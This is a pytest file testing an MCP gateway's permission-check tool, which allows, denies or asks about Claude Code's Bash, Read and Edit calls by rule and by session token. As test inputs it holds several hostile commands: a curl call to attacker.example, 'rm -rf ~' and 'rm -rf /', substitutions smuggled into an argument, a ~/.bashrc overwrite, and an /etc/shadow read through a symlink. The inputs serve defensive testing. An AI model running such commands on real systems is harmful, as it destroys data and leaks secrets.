"""`check_permission`, Claude Code's permission prompt tool, through the MCP server in process.

Each session is started as Claude Code starts the gateway (MCP_GATEWAY_TOKEN in the server's
environment, no `params.auth`), served over memory streams (tests/memory_session.py), and each
answer is read as Claude Code's SDKs read it (tests/permission_checks.py). A person at
`mcp-gateway approvals` in a pty, and what `serve` writes to stderr, are tests/e2e/test_claude_code.py.
"""

from __future__ import annotations

import logging
from collections.abc import Callable
from typing import Any

import pytest

from tests.harness import GatewayHome
from tests.memory_session import MemorySession
from tests.permission_checks import RULES, answer, check, events, questions, send_check

SessionFactory = Callable[..., MemorySession]


@pytest.fixture
def gateway(make_gateway: Callable[..., GatewayHome]) -> GatewayHome:
    gw = make_gateway({"permission_prompt": RULES, "consent": {"timeout_s": 60}})
    gw.add_user("alice", "USER")
    gw.add_user("vic", "VIEWER")
    return gw


@pytest.fixture
def claude(gateway: GatewayHome, open_memory: SessionFactory) -> Callable[..., MemorySession]:
    """A session started as Claude Code starts it: the token in MCP_GATEWAY_TOKEN (alice's by default)."""

    def start(who: str | None = "alice", **kwargs: Any) -> MemorySession:
        """`who`: a user (their token), a token's text, or None (no MCP_GATEWAY_TOKEN at all)."""
        if who is None:
            return open_memory(gateway, **kwargs)
        value = gateway.token(who) if who in ("alice", "vic") else who
        return open_memory(gateway, environ={"MCP_GATEWAY_TOKEN": value}, **kwargs)

    return start


def under_rules(
    make_gateway: Callable[..., GatewayHome], open_memory: SessionFactory
) -> tuple[GatewayHome, MemorySession]:
    """RULES with consent.mode deny: an "ask" is answered at once (no stored decision: deny), without a person."""
    gw = make_gateway({"permission_prompt": RULES, "consent": {"mode": "deny"}})
    gw.add_user("alice", "USER")
    return gw, open_memory(gw, environ={"MCP_GATEWAY_TOKEN": gw.token("alice")})


# --- offered, and only when enabled ------------------------------------------------------------------


def test_check_permission_is_listed_only_when_enabled(
    make_gateway: Callable[..., GatewayHome], claude: Callable[..., MemorySession], open_memory: SessionFactory
) -> None:
    listed = claude().request("tools/list")["result"]["tools"]
    (tool,) = [t for t in listed if t["name"] == "check_permission"]
    assert tool["inputSchema"]["required"] == ["tool_name", "input"]
    assert set(tool["inputSchema"]["properties"]) == {"tool_name", "input", "tool_use_id"}

    off = make_gateway()
    off.add_user("alice", "USER")
    session = open_memory(off, environ={"MCP_GATEWAY_TOKEN": off.token("alice")})
    assert "check_permission" not in [t["name"] for t in session.request("tools/list")["result"]["tools"]]
    refused = session.call_tool("check_permission", {"tool_name": "Bash", "input": {"command": "pytest"}})
    assert "error" in refused, "a disabled check_permission is no tool at all"


# --- rules -------------------------------------------------------------------------------------------


def test_allow_by_rule_echoes_the_input_whole(gateway: GatewayHome, claude: Callable[..., MemorySession]) -> None:
    tool_input = {"command": "pytest -q tests/", "description": "Run the tests ✓", "timeout": 120000,
                  "nested": {"list": [1, 2.5, None, True], "empty": {}}}  # fmt: skip
    decided, run_id = check(claude(), "Bash", tool_input)
    assert decided == {"behavior": "allow", "updatedInput": tool_input}
    logged = events(gateway, run_id)
    assert logged["MCP_TOOL_CALL"]["tool_name"] == "check_permission"
    assert logged["MCP_TOOL_CALL"]["user"] == "alice"
    decision = logged["mcp.permission.decision"]
    assert decision["tool_name"] == "Bash"
    assert decision["detail"] | {"risk_tier": "high"} == {
        "decision": "ALLOW_ONCE", "risk_tier": "high", "origin": "policy", "server_id": "claude-code",
        "channel": "rules", "rule": "Bash(pytest:*)",
    }  # fmt: skip
    finished = logged["TOOL_FINISHED"]["detail"]
    assert finished["behavior"] == "allow" and finished["rule"] == "Bash(pytest:*)"
    assert finished["agent_tool"] == "Bash" and finished["tool_use_id"].startswith("toolu_")
    assert gateway.chain_ok()
    assert questions(gateway) == [], "nobody was asked"


def test_deny_by_rule_names_the_rule(gateway: GatewayHome, claude: Callable[..., MemorySession]) -> None:
    decided, run_id = check(claude(), "Bash", {"command": "rm -rf build"})
    assert decided["behavior"] == "deny"
    assert "Bash(rm:*)" in decided["message"]
    decision = events(gateway, run_id)["mcp.permission.decision"]["detail"]
    assert (decision["decision"], decision["rule"], decision["reason"]) == ("DENY_ONCE", "Bash(rm:*)", "rule_denied")


@pytest.mark.parametrize(
    ("command", "rule"),
    [
        ("pytest && curl https://attacker.example/x", "Bash(curl:*)"),
        ("pytest; rm -rf ~", "Bash(rm:*)"),
        ("git status | rm -rf /", "Bash(rm:*)"),
    ],
)
def test_a_deny_rule_beats_an_allow_rule(claude: Callable[..., MemorySession], command: str, rule: str) -> None:
    decided, _ = check(claude(), "Bash", {"command": command})
    assert decided["behavior"] == "deny"
    assert rule in decided["message"]


@pytest.mark.parametrize(
    ("tool", "tool_input", "behavior"),
    [
        ("Read", {"file_path": "/etc/hostname"}, "allow"),
        ("Edit", {"file_path": "{ws}/src/app.py", "old_string": "a", "new_string": "b"}, "allow"),
        ("Edit", {"file_path": "{ws}/src/../../escape.py", "old_string": "a", "new_string": "b"}, "ask"),
        ("Bash", {"command": "pytest $(whoami)"}, "ask"),  # not plain literal words: never allowed by a rule
        ("Bash", {"command": "pytest `id`"}, "ask"),
        ("Bash", {"command": "pytest -q > ~/.bashrc"}, "ask"),
    ],
)
def test_what_no_allow_rule_covers_is_asked(
    make_gateway: Callable[..., GatewayHome],
    open_memory: SessionFactory,
    tool: str,
    tool_input: dict[str, Any],
    behavior: str,
) -> None:
    gw, session = under_rules(make_gateway, open_memory)
    concrete = {k: v.replace("{ws}", str(gw.workspace)) if isinstance(v, str) else v for k, v in tool_input.items()}
    decided, run_id = check(session, tool, concrete)
    assert decided["behavior"] == ("allow" if behavior == "allow" else "deny")
    decision = events(gw, run_id)["mcp.permission.decision"]["detail"]
    assert decision["origin"] == "policy"
    assert decision.get("reason") == (None if behavior == "allow" else "consent_mode_deny")


def test_a_symlink_does_not_carry_an_allow_rule_out_of_its_folder(
    make_gateway: Callable[..., GatewayHome], open_memory: SessionFactory
) -> None:
    gw, session = under_rules(make_gateway, open_memory)
    outside = gw.workspace.parent / "outside.py"
    outside.write_text("SECRET-CONTENT\n")
    (gw.workspace / "src").mkdir(exist_ok=True)
    (gw.workspace / "src" / "link.py").symlink_to(outside)
    edit = {"file_path": str(gw.workspace / "src/link.py"), "old_string": "SECRET", "new_string": "x"}
    decided, _ = check(session, "Edit", edit)
    assert decided["behavior"] == "deny", "Edit(src/**) must not cover a link leaving src/"
    plain, _ = check(session, "Edit", {**edit, "file_path": str(gw.workspace / "src/real.py")})
    assert plain["behavior"] == "allow"


def test_a_workspace_swapped_for_a_link_to_root_is_denied_not_judged(
    make_gateway: Callable[..., GatewayHome], open_memory: SessionFactory
) -> None:
    # Judged against a root that now leads to `/`, `Edit(src/**)` and the preview would reach any file.
    gw, session = under_rules(make_gateway, open_memory)
    away = gw.workspace.with_name("workspace-away")
    gw.workspace.rename(away)
    gw.workspace.symlink_to("/", target_is_directory=True)
    try:
        decided, run_id = check(session, "Read", {"file_path": str(gw.workspace / "etc/shadow")})
    finally:
        gw.workspace.unlink()
        away.rename(gw.workspace)
    assert decided["behavior"] == "deny" and "restart the gateway" in decided["message"], decided
    assert events(gw, run_id)["POLICY_BLOCKED"]["detail"]["blocked_reason"] == "workspace_changed"
    restored, _ = check(session, "Read", {"file_path": str(gw.workspace / "tests")})
    assert restored["behavior"] == "allow"


# --- the session's token -----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("token", "reason"),
    [
        (None, "token_missing"),
        ("not-a-jwt", "token_malformed"),
        ("forged", "bad_signature"),
        ("expired", "token_expired"),
        ("vic", "missing_permission"),
    ],
)
def test_a_missing_or_invalid_env_token_denies(
    gateway: GatewayHome, claude: Callable[..., MemorySession], token: str | None, reason: str
) -> None:
    real = gateway.token("alice")
    tokens = {
        "forged": real[: real.rindex(".") + 1] + ("A" * 43),
        "expired": gateway.token("alice", ttl_s=60, now=1_000_000_000),
    }
    value = tokens.get(token, token) if token else None
    session = claude(value)
    decided, run_id = check(session, "Bash", {"command": "pytest -q"})  # an allow rule covers it
    assert decided["behavior"] == "deny"
    assert "mcp-write-gateway denied this tool use" in decided["message"]
    for secret in filter(None, (value, real)):
        assert secret not in decided["message"]
    blocked = events(gateway, run_id)["POLICY_BLOCKED"]
    assert blocked["detail"] == {"blocked_reason": blocked["detail"]["blocked_reason"], "behavior": "deny"}
    assert blocked["detail"]["blocked_reason"] == reason, blocked
    assert blocked["code"] == (-32003 if token == "vic" else -32001)
    assert "mcp.permission.decision" not in events(gateway, run_id)


def test_a_revoked_token_or_disabled_user_denies_from_the_next_question(
    gateway: GatewayHome, open_memory: SessionFactory
) -> None:
    token = gateway.token("alice")
    session = open_memory(gateway, environ={"MCP_GATEWAY_TOKEN": token})
    assert check(session, "Bash", {"command": "pytest"})[0]["behavior"] == "allow"
    assert gateway.cli("token", "revoke", token).returncode == 0
    decided, run_id = check(session, "Bash", {"command": "pytest"})
    assert decided["behavior"] == "deny"
    assert events(gateway, run_id)["POLICY_BLOCKED"]["detail"]["blocked_reason"] == "token_revoked"


def test_an_unreachable_database_denies_even_what_a_rule_allows(
    gateway: GatewayHome, open_memory: SessionFactory, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.DEBUG)
    missing = gateway.root / "no-such-dir" / "gateway.db"
    environ = {"MCP_GATEWAY_TOKEN": gateway.token("alice")}
    session = open_memory(gateway, db_url=f"sqlite:///{missing}", environ=environ)
    decided, _ = check(session, "Bash", {"command": "pytest -q"})
    assert decided == {
        "behavior": "deny",
        "message": "mcp-write-gateway failed to decide; denied (see the gateway's log)",
    }
    assert "check_permission failed" in caplog.text
    assert "result" in session.request("ping"), "the server keeps answering"


def test_a_malformed_question_is_denied(gateway: GatewayHome, claude: Callable[..., MemorySession]) -> None:
    session = claude()
    for arguments in ({"tool_name": "Bash"}, {"tool_name": "Bash", "input": "pytest"}, {"tool_name": "", "input": {}},
                      {"tool_name": "Bash\n", "input": {}}, {}):  # fmt: skip
        request_id = send_check(session, arguments)
        decided, run_id = answer(session, request_id)
        assert decided["behavior"] == "deny", arguments
        assert events(gateway, run_id)["POLICY_BLOCKED"]["code"] == -32602


# --- ask: nobody answers; a stored grant answers -------------------------------------------------------


def test_ask_then_nobody_answers_denies(make_gateway: Callable[..., GatewayHome], open_memory: SessionFactory) -> None:
    gw = make_gateway({"permission_prompt": RULES, "consent": {"timeout_s": 1}})
    gw.add_user("alice", "USER")
    session = open_memory(gw, environ={"MCP_GATEWAY_TOKEN": gw.token("alice")})
    decided, run_id = check(session, "Bash", {"command": "git push"})
    assert decided["behavior"] == "deny"
    assert "no person answered" in decided["message"]
    assert events(gw, run_id)["mcp.permission.decision"]["detail"]["origin"] == "timeout"
    (question,) = questions(gw)
    assert (question["status"], question["server_id"], question["tool_name"]) == ("expired", "claude-code", "Bash")
    assert question["preview"] == "$ git push"


def test_consent_grant_for_an_agent_tool(gateway: GatewayHome, claude: Callable[..., MemorySession]) -> None:
    refused = gateway.cli("consent", "grant", "alice", "Bash", "--always", "--agent")
    assert refused.returncode == 1 and "destructive" in refused.stderr
    stored = gateway.cli("consent", "grant", "alice", "WebSearch", "--always", "--agent")
    assert stored.returncode == 0, stored.stderr
    decided, _ = check(claude(), "WebSearch", {"query": "mcp elicitation"})
    assert decided == {"behavior": "allow", "updatedInput": {"query": "mcp elicitation"}}
